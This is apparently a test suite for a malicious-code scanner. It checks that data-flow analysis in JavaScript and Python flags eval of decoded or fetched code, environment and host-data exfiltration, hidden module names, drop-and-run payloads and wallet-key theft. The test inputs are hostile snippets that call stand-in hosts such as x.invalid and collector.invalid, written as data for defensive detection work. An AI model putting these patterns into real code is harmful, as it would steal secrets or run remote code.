// Following data through code: aliases, callbacks, destructuring, functions, and what must not count as flow.
import { describe, expect, it } from 'vitest'
import { factsOfPython, factsOfScript } from '../../../src/scanners/content/code-analysis.ts'

const scriptFacts = (text: string) => factsOfScript(text, false).facts.map((fact) => fact.query)
const pythonFacts = (text: string) => factsOfPython(text).facts.map((fact) => fact.query)

describe('JavaScript', () => {
  it.each([
    ['an alias of eval', "const run = eval; run(atob('eA=='))", 'exec-decoded'],
    [
      'two hops',
      "const a = Buffer.from('eA==', 'base64'); const b = a.toString(); new Function(b)()",
      'exec-decoded',
    ],
    ['a decoder function', 'function d(s) { return atob(s) } eval(d(x))', 'exec-decoded'],
    ['a constructor of a function', "(() => {}).constructor(atob('eA=='))()", 'exec-decoded'],
    [
      'a callback of a stream',
      "require('https').get('https://x.invalid', (r) => { let b = ''; r.on('data', (c) => { b += c }); r.on('end', () => eval(b)) })",
      'exec-fetched',
    ],
    [
      'a promise chain with a named function',
      "const run = (t) => eval(t); fetch('https://x.invalid').then((r) => r.text()).then(run)",
      'exec-fetched',
    ],
    [
      'an imported binding',
      "import { exec as e } from 'node:child_process'; e('whoami')",
      'process-reconnaissance',
    ],
    [
      'a wrapped function',
      "const { promisify } = require('util'); const run = promisify(require('child_process').exec); run('whoami')",
      'process-reconnaissance',
    ],
    [
      'a module by an encoded name',
      "require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString())",
      'hidden-name',
    ],
    ['a property by an encoded name', "globalThis[atob('ZXZhbA==')](x)", 'hidden-name'],
    [
      'the environment through an object',
      "const d = { e: process.env }; fetch('https://x.invalid', { body: JSON.stringify(d) })",
      'environment-sent',
    ],
    [
      'a class with state',
      "class A { constructor() { this.h = require('os').hostname() } send() { fetch('https://x.invalid/?' + this.h + require('os').userInfo().username) } }",
      'host-facts-sent',
    ],
    [
      'the environment into what curl reads',
      "require('child_process').spawnSync('curl', ['-d', '@-', 'https://x.invalid'], { input: JSON.stringify(process.env) })",
      'environment-sent',
    ],
    [
      'module passed as an argument',
      "((cp) => cp.exec('whoami'))(require('child_process'))",
      'process-reconnaissance',
    ],
  ])('follows %s', (_name, text, fact) => {
    expect(scriptFacts(text)).toContain(fact)
  })

  it.each([
    [
      'a hash of the host name',
      "const h = require('crypto').createHash('sha256').update(require('os').hostname() + require('os').userInfo().username).digest('hex'); fetch('https://x.invalid/' + h)",
      'host-facts-sent',
    ],
    [
      'one variable of the environment',
      "fetch('https://x.invalid/' + process.env.STAGE)",
      'environment-sent',
    ],
    [
      'the environment of a child',
      "require('child_process').spawn('ls', [], { env: process.env }); fetch('https://x.invalid')",
      'environment-sent',
    ],
    [
      'the environment that curl is started with',
      "const o = { env: process.env }; require('child_process').spawn('curl', ['https://x.invalid'], o)",
      'environment-sent',
    ],
    ['a local function named exec', "function exec(s) { return s } exec('whoami')", 'process-reconnaissance'],
    [
      'a comparison',
      "fetch('https://x.invalid/' + (require('os').hostname() === require('os').userInfo().username))",
      'host-facts-sent',
    ],
  ])('does not take %s for a leak', (_name, text, fact) => {
    expect(scriptFacts(text)).not.toContain(fact)
  })

  it('reads commands that are put together', () => {
    const { commands } = factsOfScript(
      "const u = 'http://x.invalid'; require('child_process').spawn('curl', ['-o', 'a', u])",
      false,
    )
    expect(commands.map((command) => command.text)).toEqual(['curl -o a http://x.invalid'])
  })

  it('says that it has not read what is no JavaScript, and does not throw', () => {
    expect(scriptFacts('<html>')).toEqual(['unread'])
    expect(scriptFacts('('.repeat(50_000))).toEqual(['unread'])
    expect(scriptFacts(`${'a('.repeat(20_000)}${')'.repeat(20_000)}`)).toEqual(['unread'])
  })

  it('follows what is decoded through a function, however many other callers an author adds', () => {
    const others = Array.from({ length: 12 }, (_, at) => `run(other${at});`).join('\n')
    const text = `function run(code) { eval(code) }\n${others}\nrun(Buffer.from(blob, 'base64').toString())`
    expect(scriptFacts(text)).toContain('exec-decoded')
  })

  it('ends on names that stand for themselves', () => {
    expect(scriptFacts('var a = b, b = a; a(b); eval(a)')).not.toContain('exec-decoded')
  })
})

describe('Python', () => {
  it.each([
    ['an alias of exec', "e = exec\ne(__import__('base64').b64decode('eA=='))", 'exec-decoded'],
    ['a renamed decoder', "from base64 import b64decode as d\nx = d('eA==')\nexec(x)", 'exec-decoded'],
    [
      'compile between',
      "import requests\nc = compile(requests.get('https://x.invalid').text, '', 'exec')\nexec(c)",
      'exec-fetched',
    ],
    [
      'with blocks',
      "import requests\nwith requests.get('https://x.invalid') as r:\n    exec(r.text)",
      'exec-fetched',
    ],
    [
      'attributes of self',
      "import os, requests\nclass A:\n    def __init__(self):\n        self.e = dict(os.environ)\n    def send(self):\n        requests.post('https://x.invalid', json=self.e)",
      'environment-sent',
    ],
    [
      'format strings',
      "import socket, getpass, requests\nrequests.get(f'https://x.invalid/{socket.gethostname()}/{getpass.getuser()}')",
      'host-facts-sent',
    ],
    [
      'a thread target',
      "from threading import Thread\nimport os\ndef go():\n    os.system('whoami')\nThread(target=go).start()",
      'process-reconnaissance',
    ],
    ['escaped names', "getattr(__import__('\\x6f\\x73'), 'system')('id')", 'hidden-name'],
    ['comprehensions', "exec(''.join(chr(ord(c) ^ 5) for c in 'abc'))", 'exec-unpacked'],
    [
      'a drop',
      "import base64, os\nwith open('/tmp/k', 'wb') as f:\n    f.write(base64.b64decode(D))\nos.system('/tmp/k')",
      'drop-run',
    ],
  ])('follows %s', (_name, text, fact) => {
    expect(pythonFacts(text)).toContain(fact)
  })

  it.each([
    [
      'one variable',
      "import os, requests\nrequests.get('https://x.invalid', params={'s': os.environ['STAGE']})",
      'environment-sent',
    ],
    [
      'the environment of a program that speaks of curl',
      "import os, subprocess, sys\nprogram = '# the curl version is not used\\nprint(1)'\nenv = dict(os.environ, A='b')\nsubprocess.run([sys.executable, '-c', program], env=env)",
      'environment-sent',
    ],
    [
      'the length of the host name',
      "import socket, getpass, requests\nrequests.get('https://x.invalid/%d%d' % (len(socket.gethostname()), len(getpass.getuser())))",
      'host-facts-sent',
    ],
    [
      'decoded data in a file',
      "import base64\nopen('a.png', 'wb').write(base64.b64decode(x))\nexec('1')",
      'exec-decoded',
    ],
  ])('does not take %s for a leak', (_name, text, fact) => {
    expect(pythonFacts(text)).not.toContain(fact)
  })
})

describe('functions of the package that put names together', () => {
  it.each([
    ['a joiner', "function g(a, b) { return a + b }\nrequire(g('chi', 'ld_process'))"],
    [
      'a list of escapes',
      "var n = ['\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73']; require(n[0])",
    ],
    [
      'turned round',
      "const t = ['ssecorp_dlihc']; const f = (i) => t[i].split('').reverse().join(''); require(f(0))",
    ],
  ])('%s hides the name', (_name, text) => {
    expect(scriptFacts(text)).toContain('hidden-name')
  })

  it('takes the last argument of Function for the code', () => {
    const text =
      "const fs = require('fs'); const b = fs.readFileSync(__dirname + '/logo.png'); new Function('require', b.subarray(9).toString())(require)"
    expect(scriptFacts(text)).toContain('exec-data-file')
  })

  it('follows what is pushed onto a list', () => {
    const text = "const s = []; for (const n of list) s.push(String.fromCharCode(n ^ 3)); eval(s.join(''))"
    expect(scriptFacts(text)).toContain('exec-unpacked-near')
  })

  it('ends in code that is generated to be slow', () => {
    const calls = Array.from({ length: 400 }, (_, i) => `require(f0('${i}'))`).join(';')
    const functions = Array.from(
      { length: 30 },
      (_, i) => `function f${i}(a) { return f${i + 1}(a + a) + f${i + 1}(a) }`,
    )
    expect(scriptFacts(`${functions.join('\n')}\nfunction f30(a) { return a }\n${calls}`)).not.toContain(
      'hidden-name',
    )
  })

  it('names a key by its use', () => {
    const text =
      "const { Keypair } = require('@solana/web3.js'); exports.load = (s) => { fetch('https://collector.invalid', { method: 'POST', body: JSON.stringify({ s }) }); return Keypair.fromSecretKey(decode(s)) }"
    expect(scriptFacts(text)).toContain('wallet-key-sent')
  })
})
